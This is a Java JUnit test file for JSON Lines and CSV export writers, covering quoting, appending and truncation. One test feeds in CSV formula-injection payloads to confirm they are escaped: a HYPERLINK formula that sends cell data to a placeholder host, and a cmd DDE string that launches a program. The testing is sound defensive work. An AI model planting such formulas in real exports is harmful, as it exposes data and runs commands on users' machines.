package io.larkgen.samples.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.larkgen.runtime.json.JsonWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class WritersTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  @TempDir Path dir;

  private final Fakes.Interview withTwo =
      new Fakes.Interview("i1", 5L, "a,b", List.of("r1", "r2"));
  private final Fakes.Record r1 = new Fakes.Record("r1", "PASS", "say \"hi\", then\r\nleave");
  private final Fakes.Record r2 = new Fakes.Record("r2", null, "中文 ok");

  @Test
  void jsonLinesEmbedsRecordsAsLastMember() throws IOException {
    Path out = dir.resolve("x.jsonl");
    try (OutputFile f = OutputFile.open(out, 0);
        JsonLinesWriter<Fakes.Interview, Fakes.Record> w =
            new JsonLinesWriter<>(f, Fakes.INTERVIEW_CODEC, Fakes.RECORD_CODEC)) {
      w.write(withTwo, List.of(r1, r2));
      w.write(new Fakes.Interview("i2", 6L, "n", List.of()), List.of());
      long committed = w.commit();
      assertEquals(Files.size(out), committed);
    }
    List<String> lines = Files.readAllLines(out, StandardCharsets.UTF_8);
    assertEquals(2, lines.size());
    JsonNode first = JSON.readTree(lines.get(0));
    assertEquals(
        JSON.readTree(
            "{\"id\":\"i1\",\"begin_time\":5,\"stage\":{\"note\":\"a,b\"},"
                + "\"interview_record_list\":[{\"id\":\"r1\"},{\"id\":\"r2\"}],"
                + "\"interview_records\":[{\"id\":\"r1\",\"conclusion\":\"PASS\",\"content\":\"say \\\"hi\\\", then\\r\\nleave\"},"
                + "{\"id\":\"r2\",\"content\":\"中文 ok\"}]}"),
        first);
    List<String> names = JSON.readTree(lines.get(0)).properties().stream().map(e -> e.getKey()).toList();
    assertEquals(JsonLinesWriter.RECORDS_FIELD, names.get(names.size() - 1));
    assertEquals(JSON.createArrayNode(), JSON.readTree(lines.get(1)).get("interview_records"));
    assertTrue(Files.readString(out).endsWith("}\n"));
  }

  @Test
  void jsonLinesRejectsACodecThatWritesNoObject() throws IOException {
    JsonWriter<Fakes.Interview> broken = (i, g) -> g.writeString(i.id());
    try (OutputFile f = OutputFile.open(dir.resolve("y.jsonl"), 0);
        JsonLinesWriter<Fakes.Interview, Fakes.Record> w =
            new JsonLinesWriter<>(f, broken, Fakes.RECORD_CODEC)) {
      assertThrows(IllegalStateException.class, () -> w.write(withTwo, List.of(r1)));
    }
  }

  @Test
  void csvQuotesPerRfc4180WithCrlfAndOneRowPerRecord() throws IOException {
    Path out = dir.resolve("x.csv");
    try (OutputFile f = OutputFile.open(out, 0);
        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, Fakes.COLUMNS, true, true)) {
      w.write(withTwo, List.of(r1, r2));
      w.write(new Fakes.Interview("i2", 6L, "plain", List.of()), List.of());
      w.commit();
    }
    String text = Files.readString(out, StandardCharsets.UTF_8);
    assertEquals(
        "interview_id,note,record_id,content\r\n"
            + "i1,\"a,b\",r1,\"say \"\"hi\"\", then\r\nleave\"\r\n"
            + "i1,\"a,b\",r2,中文 ok\r\n"
            + "i2,plain,,\r\n",
        text);
    List<List<String>> rows = parseCsv(out);
    assertEquals(List.of("i1", "a,b", "r1", "say \"hi\", then\r\nleave"), rows.get(1));
    assertEquals(4, rows.size());
  }

  private String csvOf(Fakes.Interview interview, Fakes.Record record, boolean escapeFormulas) throws IOException {
    Path out = dir.resolve("formulas-" + escapeFormulas + ".csv");
    try (OutputFile f = OutputFile.open(out, 0);
        CsvExportWriter<Fakes.Interview, Fakes.Record> w =
            new CsvExportWriter<>(f, Fakes.COLUMNS, false, escapeFormulas)) {
      w.write(interview, List.of(record));
      w.commit();
    }
    return Files.readString(out, StandardCharsets.UTF_8);
  }

  @Test
  void csvCellsThatASpreadsheetWouldRunAsFormulasGetALeadingQuote() throws IOException {
    Fakes.Interview i = new Fakes.Interview("=1+1", 5L, "@SUM(A1:A9)", List.of("r"));
    // input, the cell as written, the cell as a CSV reader reads it
    String[][] cases = {
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
          "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"",
          "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"},
      {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
      {"-2+3", "'-2+3", "'-2+3"},
      {"\t=1", "'\t=1", "'\t=1"},
      {"\r=1", "\"'\r=1\"", "'\r=1"},
      {"a=1, not a formula", "\"a=1, not a formula\"", "a=1, not a formula"},
      {" =1", " =1", " =1"},
    };
    for (String[] c : cases) {
      String csv = csvOf(i, new Fakes.Record("+r", null, c[0]), true);
      assertEquals("'=1+1,'@SUM(A1:A9),'+r," + c[1] + "\r\n", csv, c[0]);
      assertEquals(List.of("'=1+1", "'@SUM(A1:A9)", "'+r", c[2]), parseCsv(dir.resolve("formulas-true.csv")).get(0));
    }
  }

  @Test
  void csvFormulaEscapingCanBeTurnedOff() throws IOException {
    Fakes.Interview i = new Fakes.Interview("=1+1", 5L, "@SUM(A1:A9)", List.of("r"));
    assertEquals("=1+1,@SUM(A1:A9),-r,+1\r\n", csvOf(i, new Fakes.Record("-r", null, "+1"), false));
  }

  @Test
  void escapeFormulaLeavesOtherCellsAlone() {
    assertEquals("", CsvExportWriter.escapeFormula(""));
    assertEquals("'=", CsvExportWriter.escapeFormula("="));
    assertEquals("'@", CsvExportWriter.escapeFormula("@"));
    assertEquals("2026-01-01T00:00:00Z", CsvExportWriter.escapeFormula("2026-01-01T00:00:00Z"));
    assertEquals("{\"id\":\"-1\"}", CsvExportWriter.escapeFormula("{\"id\":\"-1\"}"));
    assertEquals("'-1", CsvExportWriter.escapeFormula("-1"));
    assertEquals("中文 =1", CsvExportWriter.escapeFormula("中文 =1"));
  }

  @Test
  void csvKeepsEmptyCellsInTheMiddle() throws IOException {
    Path out = dir.resolve("gaps.csv");
    List<CsvColumn<Fakes.Interview, Fakes.Record>> columns =
        List.of(
            new CsvColumn<>("a", (i, r) -> "1"),
            new CsvColumn<>("b", (i, r) -> null),
            new CsvColumn<>("c", (i, r) -> ""),
            new CsvColumn<>("d", (i, r) -> "4"));
    try (OutputFile f = OutputFile.open(out, 0);
        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, columns, false, true)) {
      w.write(withTwo, List.of(r1));
      w.commit();
    }
    assertEquals("1,,,4\r\n", Files.readString(out));
  }

  @Test
  void csvWritesNoHeaderWhenAppending() throws IOException {
    Path out = dir.resolve("x.csv");
    Files.writeString(out, "interview_id,note,record_id,content\r\n");
    try (OutputFile f = OutputFile.open(out, Files.size(out));
        CsvExportWriter<Fakes.Interview, Fakes.Record> w = new CsvExportWriter<>(f, Fakes.COLUMNS, false, true)) {
      w.write(new Fakes.Interview("i2", 6L, "plain", List.of()), List.of());
      w.commit();
    }
    assertEquals("interview_id,note,record_id,content\r\ni2,plain,,\r\n", Files.readString(out));
  }

  @Test
  void outputFileCutsOffBytesAfterTheCommittedOffset() throws IOException {
    Path out = dir.resolve("z.txt");
    Files.writeString(out, "committed|garbage");
    try (OutputFile f = OutputFile.open(out, 10)) {
      f.stream().write("more".getBytes(StandardCharsets.UTF_8));
      assertEquals(14, f.commit());
    }
    assertEquals("committed|more", Files.readString(out));
    assertThrows(OutputFile.ShorterThanCheckpointException.class, () -> OutputFile.open(out, 100));
    assertEquals("committed|more", Files.readString(out));
  }

  static List<List<String>> parseCsv(Path file) throws IOException {
    CsvMapper mapper = new CsvMapper();
    mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
    try (MappingIterator<List<String>> it =
        mapper.readerForListOf(String.class).readValues(file.toFile())) {
      return it.readAll();
    }
  }
}
